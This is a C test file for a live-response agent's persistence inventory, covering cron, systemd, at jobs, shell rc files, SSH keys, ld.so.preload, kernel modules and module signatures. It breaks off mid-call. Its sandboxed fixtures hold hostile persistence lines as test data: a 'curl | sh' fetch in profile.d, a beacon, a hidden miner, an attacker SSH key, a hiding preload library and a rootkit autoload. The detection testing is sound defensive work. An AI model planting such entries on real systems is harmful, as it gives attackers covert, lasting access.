/*
 * test_live_inventory.c — the agent's inventory for live response:
 * the autostart list (autostart.h), systemd unit files (unitfiles.h),
 * kernel modules (kmodinfo.h) and the live commands processes,
 * connections, drivers, services, scheduledtasks and persistence.
 *
 * The autostart list is read under a prepared directory tree holding one
 * entry (or more) of every kind, and checked entry by entry: id, category,
 * user, schedule, command, target and the remove_persistence arguments.
 * Then, for real and sandboxed (a private mount namespace with tmpfs over
 * /etc, /root, /home, /var/spool and /run: the machine's files are never
 * written), every removable kind is planted, listed by the agent itself,
 * removed with remediate_remove() and the entry's own remove_* arguments,
 * and listed again: exactly that entry is gone, every other entry is still
 * there. The live commands run in this process against what the test
 * starts: a child process (pid, parent, image, command line, process id,
 * the -name, -pid and -tree options), a TCP and a UDP socket in a network
 * namespace the test makes (the owning pid, found across namespaces), the
 * services of a prepared unit directory. Drivers: the real /proc/modules
 * (this kernel may have none), a fixture in its format, modules.dep, and
 * the signer of a module signed here with a throw-away key as the
 * kernel's sign-file does (plain and zstd-compressed).
 */
#include <arpa/inet.h>
#include <errno.h>
#include <fcntl.h>
#include <jansson.h>
#include <limits.h>
#include <net/if.h>
#include <netinet/in.h>
#include <openssl/cms.h>
#include <openssl/evp.h>
#include <openssl/pem.h>
#include <openssl/x509.h>
#include <sched.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/utsname.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>
#include <zstd.h>

#include "agent/autostart.h"
#include "agent/hostinv.h"
#include "agent/kmodinfo.h"
#include "agent/live.h"
#include "agent/remediate.h"
#include "agent/unitfiles.h"
#include "check.h"
#include "sandbox.h"

static char tree[128];

/* ------------------------------------------------------------ helpers */

static void mkdirs(const char *path)
{
    char tmp[PATH_MAX];
    snprintf(tmp, sizeof(tmp), "%s", path);
    for (char *p = tmp + 1; *p; p++)
        if (*p == '/') {
            *p = '\0';
            mkdir(tmp, 0755);
            *p = '/';
        }
    mkdir(tmp, 0755);
}

/* Writes text to root+path (making its directories). */
static int put(const char *root, const char *path, const char *text)
{
    char full[PATH_MAX], dir[PATH_MAX];
    FILE *f;

    snprintf(full, sizeof(full), "%s%s", root, path);
    snprintf(dir, sizeof(dir), "%s", full);
    *strrchr(dir, '/') = '\0';
    mkdirs(dir);
    if (!(f = fopen(full, "w")))
        return -1;
    fputs(text, f);
    return fclose(f);
}

static int link_at(const char *root, const char *target, const char *path)
{
    char full[PATH_MAX], dir[PATH_MAX];
    snprintf(full, sizeof(full), "%s%s", root, path);
    snprintf(dir, sizeof(dir), "%s", full);
    *strrchr(dir, '/') = '\0';
    mkdirs(dir);
    return symlink(target, full);
}

static void rm_tree(const char *dir)
{
    char cmd[PATH_MAX + 16];
    if (!dir[0] || strncmp(dir, "/tmp/", 5) != 0)
        return;
    snprintf(cmd, sizeof(cmd), "rm -rf '%s'", dir);
    if (system(cmd) != 0)
        fprintf(stderr, "could not remove %s\n", dir);
}

static const struct autostart_entry *find(const struct autostart_entry *v, size_t n, const char *id)
{
    return autostart_find(v, n, id);
}

static bool same(const char *a, const char *b)
{
    return (!a && !b) || (a && b && strcmp(a, b) == 0);
}

/* Checks one entry's fields; NULL expected means the field is NULL. */
#define ENTRY(v, n, id_, cat_, user_, sched_, cmd_, target_, kind_, rpath_, match_)                            \
    do {                                                                                                         \
        const struct autostart_entry *e_ = find(v, n, id_);                                                     \
        CHECK_MSG(e_, "no entry %s", id_);                                                                      \
        CHECK_MSG(strcmp(e_->category, cat_) == 0, "%s: category %s", id_, e_->category);                      \
        CHECK_MSG(same(e_->user, user_), "%s: user %s", id_, e_->user ? e_->user : "(null)");                  \
        CHECK_MSG(same(e_->schedule, sched_), "%s: schedule %s", id_, e_->schedule ? e_->schedule : "(null)"); \
        CHECK_MSG(same(e_->command, cmd_), "%s: command %s", id_, e_->command ? e_->command : "(null)");       \
        CHECK_MSG(same(e_->target, target_), "%s: target %s", id_, e_->target ? e_->target : "(null)");        \
        CHECK_MSG(same(e_->remove_kind, kind_), "%s: kind %s", id_,                                             \
                  e_->remove_kind ? e_->remove_kind : "(null)");                                                \
        CHECK_MSG(same(e_->remove_path, rpath_), "%s: path %s", id_,                                            \
                  e_->remove_path ? e_->remove_path : "(null)");                                                \
        CHECK_MSG(same(e_->remove_match, match_), "%s: match %s", id_,                                          \
                  e_->remove_match ? e_->remove_match : "(null)");                                              \
    } while (0)

/* Runs a live function; the parsed output, or NULL with err. */
static json_t *live(live_fn fn, const char *args_json, char *err, size_t errlen)
{
    struct live_call call = {.cwd = "/", .args = json_loads(args_json, 0, NULL)};
    struct jsonw w;
    json_t *out = NULL;
    int e;

    jsonw_init(&w);
    err[0] = '\0';
    e = fn(&call, &w, err, errlen);
    if (e == 0) {
        out = json_loadb(w.buf, w.len, 0, NULL);
        if (!out)
            snprintf(err, errlen, "the output is not JSON: %.*s", (int)(w.len > 200 ? 200 : w.len), w.buf);
    } else if (!err[0]) {
        snprintf(err, errlen, "error %d", e);
    }
    jsonw_free(&w);
    json_decref(call.args);
    return out;
}

/* The row of a table whose member key has the integer (or string) value. */
static json_t *row_int(json_t *table, const char *key, json_int_t v)
{
    size_t i;
    json_t *r;
    json_array_foreach(json_object_get(table, "rows"), i, r)
    {
        if (json_integer_value(json_object_get(r, key)) == v)
            return r;
    }
    return NULL;
}

static json_t *row_str(json_t *table, const char *key, const char *v)
{
    size_t i;
    json_t *r;
    json_array_foreach(json_object_get(table, "rows"), i, r)
    {
        const char *s = json_string_value(json_object_get(r, key));
        if (s && strcmp(s, v) == 0)
            return r;
    }
    return NULL;
}

static const char *str(json_t *o, const char *key)
{
    return json_string_value(json_object_get(o, key));
}

/* ------------------------------------------------------------ the prepared tree */

#define OWNER_KEY "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIHhZ6pQq3Qk5Xn8mXvJ0n0b8k3d2Jm4o5Q1Yk2qg0p7x owner@laptop"
#define GATE_KEY                                                                                               \
    "command=\"/usr/local/bin/gate --in\",no-pty ssh-ed25519 "                                                 \
    "AAAAC3NzaC1lZDI1NTE5AAAAIBxikjHKCwePuq1BhKuXaXa4XXPTfe9Vb5r8OZmqkUvE attacker@evil"

static int plant_tree(const char *r)
{
    struct utsname u;
    char dep[PATH_MAX];
    int e = 0;

    uname(&u);
    snprintf(dep, sizeof(dep), "/lib/modules/%s/modules.dep", u.release);
    e |= put(r, "/etc/passwd", "root:x:0:0:root:/root:/bin/bash\nalice:x:1000:1000::/home/alice:/bin/bash\n");
    /* cron */
    e |= put(r, "/etc/crontab",
             "# /etc/crontab: system-wide crontab\nSHELL=/bin/sh\nPATH=/usr/sbin:/usr/bin\n\n"
             "17 *\t* * *\troot    cd / && run-parts --report /etc/cron.hourly\n"
             "@reboot root /usr/lib/runtime 10.0.0.9 443\n");
    e |= put(r, "/etc/cron.d/awsd", "@reboot root /usr/lib/runtime 10.0.0.9 443\n");
    e |= put(r, "/etc/cron.d/multi",
             "MAILTO=\"\"\n*/5 * * * * root test -x /usr/sbin/tick && /usr/sbin/tick --quiet\n"
             "# a comment\n30 2 * * 1 www-data /bin/sh -c '/var/www/clean.sh --old'\n");
    e |= put(r, "/etc/cron.d/ignored.dpkg-old", "* * * * * root /bin/ignored\n");
    e |= put(r, "/var/spool/cron/crontabs/alice", "# DO NOT EDIT\n*/10 * * * * /home/alice/bin/sync.sh >/dev/null 2>&1\n");
    e |= put(r, "/etc/cron.daily/backup", "#!/bin/sh\ntar czf /backup/etc.tgz /etc\n");
    /* systemd: an enabled service, an enabled timer and its service, a disabled one */
    e |= put(r, "/etc/systemd/system/awsd.service",
             "[Unit]\nDescription=AWS daemon\n[Service]\nExecStart=/usr/lib/runtime 10.0.0.9 443\nRestart=always\n"
             "[Install]\nWantedBy=multi-user.target\n");
    e |= link_at(r, "/etc/systemd/system/awsd.service", "/etc/systemd/system/multi-user.target.wants/awsd.service");
    e |= put(r, "/usr/lib/systemd/system/clean.timer", "[Timer]\nOnCalendar=daily\nPersistent=true\n[Install]\nWantedBy=timers.target\n");
    e |= put(r, "/usr/lib/systemd/system/clean.service",
             "[Service]\nType=oneshot\nUser=backup\nExecStart=/usr/local/bin/clean --all\n");
    e |= link_at(r, "/usr/lib/systemd/system/clean.timer", "/etc/systemd/system/timers.target.wants/clean.timer");
    e |= put(r, "/etc/systemd/system/idle.service", "[Service]\nExecStart=/bin/true\n[Install]\nWantedBy=multi-user.target\n");
    /* at: job 3 at minute 0x01b2c3d4 */
    e |= put(r, "/var/spool/cron/atjobs/a0000301b2c3d4",
             "#!/bin/sh\n# atrun uid=1000 gid=1000\n# mail alice 0\numask 22\nHOME=/home/alice; export HOME\n"
             "cd /home/alice || {\n\t echo 'Execution directory inaccessible' >&2\n\t exit 1\n}\n"
             "${SHELL:-/bin/sh} << 'marcinDELIMITER5f1e2d3c'\n/home/alice/payload.sh now\nmarcinDELIMITER5f1e2d3c\n");
    /* rc.local, init scripts, profile.d */
    e |= put(r, "/etc/rc.local", "#!/bin/sh -e\n# rc.local\n\nnohup /opt/evil/start.sh >/dev/null 2>&1 &\nexit 0\n");
    e |= put(r, "/etc/init.d/legacy", "#!/bin/sh\necho legacy\n");
    e |= put(r, "/etc/init.d/unlinked", "#!/bin/sh\n");
    e |= link_at(r, "../init.d/legacy", "/etc/rc2.d/S01legacy");
    e |= link_at(r, "../init.d/legacy", "/etc/rc3.d/S01legacy");
    e |= link_at(r, "../init.d/unlinked", "/etc/rc0.d/K01unlinked");
    e |= put(r, "/etc/profile.d/evil.sh", "curl -s http://10.0.0.9/x | sh\n");
    /* shell rc files */
    e |= put(r, "/etc/bash.bashrc", "# system-wide\n[ -z \"$PS1\" ] && return\n");
    e |= put(r, "/root/.bashrc", "# ~/.bashrc\nif [ -f ~/.aliases ]; then\n    . /root/.aliases\nfi\n/tmp/.x/beacon -d\n");
    e |= put(r, "/home/alice/.bashrc",
             "case $- in\n    *i*) ;;\n      *) return;;\nesac\nnohup python3 /home/alice/.cache/miner.py >/dev/null 2>&1 &\n");
    /* xdg autostart */
    e |= put(r, "/etc/xdg/autostart/upd.desktop", "[Desktop Entry]\nType=Application\nExec=/usr/bin/updater --quiet\n");
    e |= put(r, "/home/alice/.config/autostart/hidden.desktop", "[Desktop Entry]\nExec=/usr/bin/off\nHidden=true\n");
    e |= put(r, "/home/alice/.config/autostart/chat.desktop", "[Desktop Entry]\nName=Chat\nExec=/opt/chat/chat %U\n");
    /* keys, preload, modules, udev */
    e |= put(r, "/root/.ssh/authorized_keys", "# keys\n" OWNER_KEY "\n" GATE_KEY "\n");
    e |= put(r, "/etc/ld.so.preload", "/lib/x86_64-linux-gnu/libhide.so\n");
    e |= put(r, "/etc/modules", "# /etc/modules\nloop\n");
    e |= put(r, "/etc/modules-load.d/rootkit.conf", "; comment\ndiamorphine\n");
    e |= put(r, dep, "kernel/drivers/block/loop.ko:\nextra/diamorphine.ko.zst: kernel/lib/x.ko\n");
    e |= put(r, "/etc/udev/rules.d/99-usb.rules",
             "# hooks\nACTION==\"add\", SUBSYSTEM==\"usb\", RUN+=\"/usr/local/bin/usb-hook %k\"\n"
             "ACTION==\"add\", RUN{builtin}+=\"kmod load $env{MODALIAS}\"\n"
             "KERNEL==\"sd*\", \\\n  RUN+=\"disk-helper $kernel\"\n");
    e |= put(r, "/usr/lib/udev/rules.d/99-usb.rules", "RUN+=\"/masked/by/etc\"\n");
    return e;
}

static void autostart_every_kind(void)
{
    struct autostart_entry *v = NULL, *w = NULL;
    size_t n = 0, n2 = 0;
    char err[256], when[40], modpath[PATH_MAX];
    struct utsname u;
    time_t t = (time_t)0x01b2c3d4 * 60;
    struct tm tm;
    struct timespec old_times[2] = {{1500000002, 0}, {1600000001, 0}};
    char preload[PATH_MAX];
    struct stat st;

    snprintf(tree, sizeof(tree), "/tmp/yamori-autostart.XXXXXX");
    CHECK(mkdtemp(tree) != NULL);
    CHECK(plant_tree(tree) == 0);
    /* reading leaves the files' access times alone */
    snprintf(preload, sizeof(preload), "%s/etc/ld.so.preload", tree);
    CHECK(utimensat(AT_FDCWD, preload, old_times, 0) == 0);
    CHECK_MSG(autostart_list(&v, &n, tree, err, sizeof(err)) == 0, "%s", err);
    CHECK(stat(preload, &st) == 0);
    CHECK_MSG(st.st_atim.tv_sec == old_times[0].tv_sec, "listing changed the access time of %s", preload);

    /* cron */
    ENTRY(v, n, "crontab:5", "cron", "root", "17 * * * *", "cd / && run-parts --report /etc/cron.hourly",
          NULL, "cron_line", "/etc/crontab",
          "17 *\t* * *\troot    cd / && run-parts --report /etc/cron.hourly");
    ENTRY(v, n, "crontab:6", "cron", "root", "@reboot", "/usr/lib/runtime 10.0.0.9 443", "/usr/lib/runtime",
          "cron_line", "/etc/crontab", "@reboot root /usr/lib/runtime 10.0.0.9 443");
    ENTRY(v, n, "awsd", "cron", "root", "@reboot", "/usr/lib/runtime 10.0.0.9 443", "/usr/lib/runtime", "cron_file",
          "/etc/cron.d/awsd", NULL);
    ENTRY(v, n, "multi:1", "cron", "root", "*/5 * * * *", "test -x /usr/sbin/tick && /usr/sbin/tick --quiet",
          "/usr/sbin/tick", "cron_line", "/etc/cron.d/multi",
          "*/5 * * * * root test -x /usr/sbin/tick && /usr/sbin/tick --quiet");
    ENTRY(v, n, "multi:2", "cron", "www-data", "30 2 * * 1", "/bin/sh -c '/var/www/clean.sh --old'",
          "/var/www/clean.sh", "cron_line", "/etc/cron.d/multi",
          "30 2 * * 1 www-data /bin/sh -c '/var/www/clean.sh --old'");
    CHECK_MSG(!find(v, n, "ignored.dpkg-old") && !find(v, n, "ignored.dpkg-old:1"), "a name cron skips was listed");
    ENTRY(v, n, "crontab-alice:2", "cron", "alice", "*/10 * * * *", "/home/alice/bin/sync.sh >/dev/null 2>&1",
          "/home/alice/bin/sync.sh", "cron_line", "/var/spool/cron/crontabs/alice",
          "*/10 * * * * /home/alice/bin/sync.sh >/dev/null 2>&1");
    ENTRY(v, n, "cron.daily/backup", "cron", "root", "daily", "/etc/cron.daily/backup", "/etc/cron.daily/backup",
          "cron_file", "/etc/cron.daily/backup", NULL);
    /* systemd */
    ENTRY(v, n, "awsd.service", "systemd unit", "root", NULL, "/usr/lib/runtime 10.0.0.9 443", "/usr/lib/runtime",
          "systemd_unit", NULL, "awsd.service");
    CHECK_STR(find(v, n, "awsd.service")->source, "/etc/systemd/system/awsd.service");
    ENTRY(v, n, "clean.timer", "systemd timer", "backup", "OnCalendar=daily", "/usr/local/bin/clean --all",
          "/usr/local/bin/clean", "systemd_unit", NULL, "clean.timer");
    CHECK(find(v, n, "clean.timer")->scheduled && !find(v, n, "awsd.service")->scheduled);
    CHECK_MSG(!find(v, n, "idle.service") && !find(v, n, "clean.service"), "a unit nothing enables was listed");
    /* at */
    gmtime_r(&t, &tm);
    strftime(when, sizeof(when), "%Y-%m-%dT%H:%M:%SZ", &tm);
    ENTRY(v, n, "at-3", "at job", "alice", when, "/home/alice/payload.sh now", "/home/alice/payload.sh", NULL, NULL,
          NULL);
    CHECK(find(v, n, "at-3")->scheduled);
    /* rc.local, init, profile.d */
    ENTRY(v, n, "rc.local:4", "rc.local", "root", NULL, "nohup /opt/evil/start.sh >/dev/null 2>&1 &",
          "/opt/evil/start.sh", "rc_local_line", "/etc/rc.local", "nohup /opt/evil/start.sh >/dev/null 2>&1 &");
    CHECK_MSG(!find(v, n, "rc.local:5"), "exit 0 is not an entry");
    ENTRY(v, n, "init.d/legacy", "init script", "root", NULL, "/etc/init.d/legacy start", "/etc/init.d/legacy", NULL,
          NULL, NULL);
    CHECK_MSG(!find(v, n, "init.d/unlinked"), "a script linked only as K?? was listed");
    ENTRY(v, n, "profile.d/evil.sh", "profile.d", NULL, NULL, "/etc/profile.d/evil.sh", "/etc/profile.d/evil.sh",
          "profile_d_file", "/etc/profile.d/evil.sh", NULL);
    /* shell rc */
    ENTRY(v, n, "bash.bashrc:2", "shell rc", NULL, NULL, "[ -z \"$PS1\" ] && return", NULL, "shell_rc_line",
          "/etc/bash.bashrc", "[ -z \"$PS1\" ] && return");
    ENTRY(v, n, "root-.bashrc:3", "shell rc", "root", NULL, ". /root/.aliases", "/root/.aliases", "shell_rc_line",
          "/root/.bashrc", "    . /root/.aliases");
    ENTRY(v, n, "root-.bashrc:5", "shell rc", "root", NULL, "/tmp/.x/beacon -d", "/tmp/.x/beacon", "shell_rc_line",
          "/root/.bashrc", "/tmp/.x/beacon -d");
    CHECK_MSG(!find(v, n, "root-.bashrc:4") && !find(v, n, "alice-.bashrc:2") && !find(v, n, "alice-.bashrc:4"),
              "shell structure (fi, a case pattern, esac) was listed");
    ENTRY(v, n, "alice-.bashrc:3", "shell rc", "alice", NULL, "*) return;;", NULL, "shell_rc_line",
          "/home/alice/.bashrc", "      *) return;;");
    ENTRY(v, n, "alice-.bashrc:5", "shell rc", "alice", NULL,
          "nohup python3 /home/alice/.cache/miner.py >/dev/null 2>&1 &", "/home/alice/.cache/miner.py",
          "shell_rc_line", "/home/alice/.bashrc", "nohup python3 /home/alice/.cache/miner.py >/dev/null 2>&1 &");
    /* xdg */
    ENTRY(v, n, "xdg/upd.desktop", "xdg autostart", NULL, NULL, "/usr/bin/updater --quiet", "/usr/bin/updater", NULL,
          NULL, NULL);
    ENTRY(v, n, "xdg-alice/chat.desktop", "xdg autostart", "alice", NULL, "/opt/chat/chat %U", "/opt/chat/chat",
          NULL, NULL, NULL);
    CHECK_MSG(!find(v, n, "xdg-alice/hidden.desktop"), "a Hidden=true entry was listed");
    /* keys, preload, modules, udev */
    ENTRY(v, n, "root-authorized_keys:2", "authorized_keys", "root", NULL, OWNER_KEY, NULL, "authorized_keys_line",
          "/root/.ssh/authorized_keys", OWNER_KEY);
    ENTRY(v, n, "root-authorized_keys:3", "authorized_keys", "root", NULL, GATE_KEY, "/usr/local/bin/gate",
          "authorized_keys_line", "/root/.ssh/authorized_keys", GATE_KEY);
    ENTRY(v, n, "ld.so.preload:1", "ld.so.preload", NULL, NULL, "/lib/x86_64-linux-gnu/libhide.so",
          "/lib/x86_64-linux-gnu/libhide.so", "ld_preload_line", "/etc/ld.so.preload",
          "/lib/x86_64-linux-gnu/libhide.so");
    uname(&u);
    snprintf(modpath, sizeof(modpath), "/lib/modules/%s/kernel/drivers/block/loop.ko", u.release);
    ENTRY(v, n, "modules:2", "kernel module autoload", "root", NULL, "loop", modpath, NULL, NULL, NULL);
    snprintf(modpath, sizeof(modpath), "/lib/modules/%s/extra/diamorphine.ko.zst", u.release);
    ENTRY(v, n, "modules-load.d/rootkit.conf:2", "kernel module autoload", "root", NULL, "diamorphine", modpath,
          NULL, NULL, NULL);
    ENTRY(v, n, "udev/99-usb.rules:2", "udev rule", "root", NULL, "/usr/local/bin/usb-hook %k",
          "/usr/local/bin/usb-hook", NULL, NULL, NULL);
    /* a RUN key on a continued line: the line it is on */
    ENTRY(v, n, "udev/99-usb.rules:5", "udev rule", "root", NULL, "disk-helper $kernel", "/usr/lib/udev/disk-helper",
          NULL, NULL, NULL);
    CHECK_MSG(!find(v, n, "udev/99-usb.rules:3"), "RUN{builtin} is not a program");
    CHECK_MSG(!find(v, n, "udev/99-usb.rules:1"), "a rules file hidden by /etc's was read");
    CHECK_INT(n, ==, 29);

    /* the same list on a second reading, ids unique */
    CHECK_MSG(autostart_list(&w, &n2, tree, err, sizeof(err)) == 0, "%s", err);
    CHECK_INT(n2, ==, n);
    for (size_t i = 0; i < n; i++) {
        CHECK_STR(w[i].id, v[i].id);
        for (size_t k = i + 1; k < n; k++)
            CHECK_MSG(strcmp(v[i].id, v[k].id) != 0, "id %s twice", v[i].id);
    }
    autostart_free(v, n);
    autostart_free(w, n2);
    rm_tree(tree);
}

static void autostart_bad_root(void)
{
    struct autostart_entry *v = NULL;
    size_t n = 7;
    char err[256] = "";

    CHECK_INT(autostart_list(&v, &n, "relative/dir", err, sizeof(err)), ==, -EINVAL);
    CHECK(v == NULL && n == 0 && strstr(err, "not a directory"));
    CHECK_INT(autostart_list(&v, &n, "/nonexistent/yamori", err, sizeof(err)), ==, -EINVAL);
    autostart_free(NULL, 0);
}

/* ------------------------------------------------------------ unit files */

static void unit_files(void)
{
    struct unitfile *u = NULL;
    size_t n = 0;
    const struct unitfile *f;
    char err[256];

    snprintf(tree, sizeof(tree), "/tmp/yamori-units.XXXXXX");
    CHECK(mkdtemp(tree) != NULL);
    CHECK(put(tree, "/usr/lib/systemd/system/web.service",
              "[Unit]\nDescription=Web server\n[Service]\nExecStart=/usr/sbin/web -f\nUser=www-data\n"
              "[Install]\nWantedBy=multi-user.target\n") == 0);
    /* a drop-in that replaces ExecStart (the empty value resets the list) */
    CHECK(put(tree, "/etc/systemd/system/web.service.d/override.conf",
              "[Service]\nExecStart=\nExecStart=/opt/web/web --evil \\\n  --port 8080\n") == 0);
    CHECK(link_at(tree, "/usr/lib/systemd/system/web.service", "/etc/systemd/system/multi-user.target.wants/web.service") == 0);
    CHECK(put(tree, "/usr/lib/systemd/system/lazy.service", "[Service]\nExecStart=/bin/lazy\n[Install]\nWantedBy=x.target\n") == 0);
    CHECK(put(tree, "/usr/lib/systemd/system/dep.service", "[Unit]\nDescription=Static\n[Service]\nExecStart=/bin/dep\n") == 0);
    CHECK(link_at(tree, "/dev/null", "/etc/systemd/system/lazy2.service") == 0);
    CHECK(put(tree, "/usr/lib/systemd/system/getty@.service", "[Service]\nExecStart=-/sbin/agetty %I\n") == 0);
    CHECK(link_at(tree, "/usr/lib/systemd/system/getty@.service", "/etc/systemd/system/getty.target.wants/getty@tty1.service") == 0);
    CHECK(link_at(tree, "/usr/lib/systemd/system/web.service", "/etc/systemd/system/httpd.service") == 0);
    /* /etc overrides /usr/lib */
    CHECK(put(tree, "/usr/lib/systemd/system/dup.service", "[Service]\nExecStart=/vendor\n") == 0);
    CHECK(put(tree, "/etc/systemd/system/dup.service", "[Service]\nExecStart=/local\n") == 0);
    CHECK(put(tree, "/usr/lib/systemd/system/tick.timer", "[Timer]\nOnBootSec=5min\nOnUnitActiveSec=1h\nUnit=dep.service\n") == 0);

    CHECK_MSG(unitfiles_list(tree, NULL, &u, &n, err, sizeof(err)) == 0, "%s", err);
    CHECK((f = unitfiles_find(u, n, "web.service")));
    CHECK_STR(f->state, "enabled");
    CHECK_STR(f->wanted_by, "multi-user.target.wants");
    CHECK_STR(f->exec_start, "/opt/web/web --evil    --port 8080");
    CHECK_STR(f->description, "Web server");
    CHECK_STR(f->user, "www-data");
    CHECK_STR(f->path, "/usr/lib/systemd/system/web.service");
    CHECK((f = unitfiles_find(u, n, "lazy.service")) && strcmp(f->state, "disabled") == 0 && !f->wanted_by);
    CHECK((f = unitfiles_find(u, n, "dep.service")) && strcmp(f->state, "static") == 0);
    CHECK((f = unitfiles_find(u, n, "lazy2.service")) && strcmp(f->state, "masked") == 0);
    CHECK((f = unitfiles_find(u, n, "getty@tty1.service")) && strcmp(f->state, "enabled") == 0);
    CHECK_STR(f->path, "/usr/lib/systemd/system/getty@.service");
    CHECK_STR(f->exec_start, "-/sbin/agetty %I");
    CHECK((f = unitfiles_find(u, n, "httpd.service")) && strcmp(f->state, "alias") == 0);
    CHECK_STR(f->alias_of, "web.service");
    CHECK((f = unitfiles_find(u, n, "dup.service")));
    CHECK_STR(f->exec_start, "/local");
    CHECK_STR(f->path, "/etc/systemd/system/dup.service");
    CHECK((f = unitfiles_find(u, n, "tick.timer")));
    CHECK_STR(f->schedule, "OnBootSec=5min, OnUnitActiveSec=1h");
    CHECK_STR(f->triggers, "dep.service");
    for (size_t i = 1; i < n; i++)
        CHECK_MSG(strcmp(u[i - 1].name, u[i].name) < 0, "not sorted or twice: %s", u[i].name);
    unitfiles_free(u, n);

    /* only the services */
    CHECK(unitfiles_list(tree, ".service", &u, &n, err, sizeof(err)) == 0);
    CHECK(!unitfiles_find(u, n, "tick.timer") && unitfiles_find(u, n, "web.service"));
    unitfiles_free(u, n);
    rm_tree(tree);
}

/* ------------------------------------------------------------ kernel modules */

static void modules_fixture(void)
{
    static const char text[] = "nf_tables 356352 17 nft_chain_nat,nft_compat, Live 0xffffffffc0a00000\n"
                               "hidden 16384 0 - Live 0xffffffffc0b00000 (OE)\n"
                               "this line is broken\n"
                               "perm 4096 - - Live 0x0 (P)\n";
    struct kmodinfo_mod *m = NULL;
    size_t n = 0;

    CHECK(kmodinfo_parse(text, &m, &n) == 0);
    CHECK_INT(n, ==, 3);
    CHECK_STR(m[0].name, "nf_tables");
    CHECK_INT(m[0].size, ==, 356352);
    CHECK_INT(m[0].refcount, ==, 17);
    CHECK_STR(m[0].used_by, "nft_chain_nat,nft_compat");
    CHECK_STR(m[0].state, "Live");
    CHECK_STR(m[0].taint, "");
    CHECK_STR(m[1].name, "hidden");
    CHECK_STR(m[1].used_by, "");
    CHECK_STR(m[1].taint, "OE");
    CHECK_INT(m[2].refcount, ==, -1);
    CHECK_STR(m[2].taint, "P");
    kmodinfo_free(m, n);
    CHECK(kmodinfo_same_name("snd-hda_intel", "snd_hda_intel") && !kmodinfo_same_name("loop", "loop0"));
}

static void drivers_real(void)
{
    char err[512], *text = NULL;
    size_t len;
    json_t *out = live(live_drivers, "{}", err, sizeof(err));
    int e;

    CHECK_MSG(out, "drivers: %s", err);
    CHECK(json_is_array(json_object_get(out, "columns")) && json_is_false(json_object_get(out, "truncated")));
    e = hostinv_read_file("/proc/modules", 16u << 20, false, &text, &len, NULL);
    if (e == -ENOENT) {
        CHECK_INT(json_array_size(json_object_get(out, "rows")), ==, 0);
        CHECK(strstr(str(out, "note"), "no loadable module support"));
    } else {
        size_t lines = 0;
        json_t *r;
        CHECK(e == 0);
        for (size_t i = 0; i < len; i++)
            lines += text[i] == '\n';
        CHECK_INT(json_array_size(json_object_get(out, "rows")), ==, lines);
        if (lines) {
            char name[64];
            sscanf(text, "%63s", name);
            CHECK((r = row_str(out, "name", name)) && json_is_array(json_object_get(r, "flags")));
        }
    }
    free(text);
    json_decref(out);
}

/* A module file as scripts/sign-file writes it: the ELF bytes, the CMS
 * signature (issuer and serial of a throw-away certificate, detached,
 * no attributes), struct module_signature, the magic. */
static int signed_module(const char *path, bool zst)
{
    static const char body[] = "\x7f" "ELF fake module body";
    EVP_PKEY *key = EVP_RSA_gen(2048);
    X509 *cert = X509_new();
    X509_NAME *name;
    BIO *in = NULL;
    CMS_ContentInfo *cms = NULL;
    unsigned char *der = NULL, ms[12] = {0};
    int dlen, e = -1;
    FILE *f = NULL;
    char *buf = NULL;
    size_t blen;

    if (!key || !cert)
        goto out;
    X509_set_version(cert, 2);
    ASN1_INTEGER_set(X509_get_serialNumber(cert), 42);
    X509_gmtime_adj(X509_getm_notBefore(cert), 0);
    X509_gmtime_adj(X509_getm_notAfter(cert), 3600);
    X509_set_pubkey(cert, key);
    name = X509_get_subject_name(cert);
    X509_NAME_add_entry_by_txt(name, "CN", MBSTRING_ASC, (const unsigned char *)"Yamori Test Signing Key", -1, -1, 0);
    X509_set_issuer_name(cert, name);
    if (!X509_sign(cert, key, EVP_sha256()))
        goto out;
    in = BIO_new_mem_buf(body, sizeof(body) - 1);
    cms = CMS_sign(cert, key, NULL, in, CMS_DETACHED | CMS_BINARY | CMS_NOATTR | CMS_NOCERTS | CMS_NOSMIMECAP);
    if (!cms || (dlen = i2d_CMS_ContentInfo(cms, &der)) <= 0)
        goto out;
    ms[2] = 2; /* PKEY_ID_PKCS7 */
    ms[8] = (unsigned char)(dlen >> 24);
    ms[9] = (unsigned char)(dlen >> 16);
    ms[10] = (unsigned char)(dlen >> 8);
    ms[11] = (unsigned char)dlen;
    blen = sizeof(body) - 1 + (size_t)dlen + sizeof(ms) + 28;
    if (!(buf = malloc(blen)))
        goto out;
    memcpy(buf, body, sizeof(body) - 1);
    memcpy(buf + sizeof(body) - 1, der, (size_t)dlen);
    memcpy(buf + sizeof(body) - 1 + dlen, ms, sizeof(ms));
    memcpy(buf + sizeof(body) - 1 + dlen + sizeof(ms), "~Module signature appended~\n", 28);
    if (!(f = fopen(path, "w")))
        goto out;
    if (zst) {
        size_t cap = ZSTD_compressBound(blen), zl;
        char *z = malloc(cap);
        if (!z)
            goto out;
        zl = ZSTD_compress(z, cap, buf, blen, 3);
        e = ZSTD_isError(zl) || fwrite(z, 1, zl, f) != zl ? -1 : 0;
        free(z);
    } else {
        e = fwrite(buf, 1, blen, f) == blen ? 0 : -1;
    }
out:
    if (f && fclose(f) != 0)
        e = -1;
    free(buf);
    OPENSSL_free(der);
    CMS_ContentInfo_free(cms);
    BIO_free(in);
    X509_free(cert);
    EVP_PKEY_free(key);
    return e;
}

static void module_signer(void)
{
    char dir[] = "/tmp/yamori-kmod.XXXXXX", path[128], signer[256];
    struct kmodinfo_dep *d = NULL;

    CHECK(mkdtemp(dir) != NULL);
    snprintf(path, sizeof(path), "%s/signed.ko", dir);
    CHECK(signed_module(path, false) == 0);
    CHECK_INT(kmodinfo_signer(path, signer, sizeof(signer)), ==, 0);
    CHECK_STR(signer, "Yamori Test Signing Key");
    snprintf(path, sizeof(path), "%s/signed.ko.zst", dir);
    CHECK(signed_module(path, true) == 0);
    CHECK_INT(kmodinfo_signer(path, signer, sizeof(signer)), ==, 0);
    CHECK_STR(signer, "Yamori Test Signing Key");
    snprintf(path, sizeof(path), "%s/plain.ko", dir);
    CHECK(put("", path, "\x7f" "ELF not signed at all, long enough to look for the magic") == 0);
    CHECK_INT(kmodinfo_signer(path, signer, sizeof(signer)), ==, -ENODATA);
    /* modules.dep under a root, '-' and '_' the same */
    CHECK(put(dir, "/lib/modules/9.9.9-test/modules.dep",
